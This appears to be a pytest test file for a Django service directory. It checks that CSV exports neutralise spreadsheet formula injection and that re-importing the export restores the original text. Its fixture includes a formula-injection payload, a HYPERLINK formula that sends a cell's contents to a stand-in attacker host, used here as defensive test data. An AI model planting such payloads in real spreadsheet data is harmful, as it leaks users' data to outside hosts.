"""CSV formula injection (issue 13, item 6): text a spreadsheet would run is exported as text, and
an import of our own export gives back the original text."""

import csv
import datetime
import io

from django.urls import reverse

import pytest

from directory.csv_safety import neutralise, restore
from directory.models import ServicePage
from tests.openreferral.test_import_export import directory, empty_the_directory, export, run  # noqa: F401

pytestmark = pytest.mark.django_db

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Family hub")',
    "summary": "+44 helpline for parents who need to talk.",
    "cost_detail": "-£2 for each extra child",
    "opening_notes": "@SUM(1+1) closed on bank holidays",
}
VENUE_NAME = "=SUM(A1:A9) Family Room"


@pytest.mark.parametrize(
    "text",
    ["=1+2", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''-x", "'plain", "plain", "", "a=b"],
)
def test_neutralise_then_restore_is_the_identity_and_never_starts_a_formula(text):
    written = neutralise(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore(written) == text


def test_exported_cells_never_start_a_formula_and_import_back_unchanged(directory, tmp_path):  # noqa: F811
    service = ServicePage.objects.get(pk=directory[0].pk)
    for field, value in FORMULAS.items():
        setattr(service, field, value)
    service.save_revision().publish()
    venue = service.locations.first()
    venue.name = VENUE_NAME
    venue.save()

    path = export(tmp_path)
    with open(path, encoding="utf-8", newline="") as exported:
        rows = list(csv.reader(exported))
    dangerous = [cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert dangerous == [], "a spreadsheet would run these cells"
    assert any(cell == "'" + FORMULAS["title"] for row in rows for cell in row)

    empty_the_directory()
    run("import_services_csv", path, publish=True)
    imported = ServicePage.objects.get(title=FORMULAS["title"])
    for field, value in FORMULAS.items():
        assert getattr(imported, field) == value, field
    assert imported.locations.first().name == VENUE_NAME


def test_the_overdue_report_csv_neutralises_formulas(client, directory, django_user_model):  # noqa: F811
    from django.contrib.auth.models import Group

    from directory.roles import MODERATORS, setup_roles
    from home.site_tree import ensure_site_tree

    setup_roles(ensure_site_tree())
    ServicePage.objects.filter(pk=directory[0].pk).update(
        title=FORMULAS["title"], next_review=datetime.date(2020, 1, 1)
    )
    moderator = django_user_model.objects.create_user("moderator", "m@example.org", "x")
    moderator.groups.add(Group.objects.get(name=MODERATORS))
    client.force_login(moderator)
    response = client.get(reverse("rightdoor_review:overdue_report"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    titles = [row[1] for row in rows[1:]]
    assert "'" + FORMULAS["title"] in titles
    assert not [cell for row in rows for cell in row if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
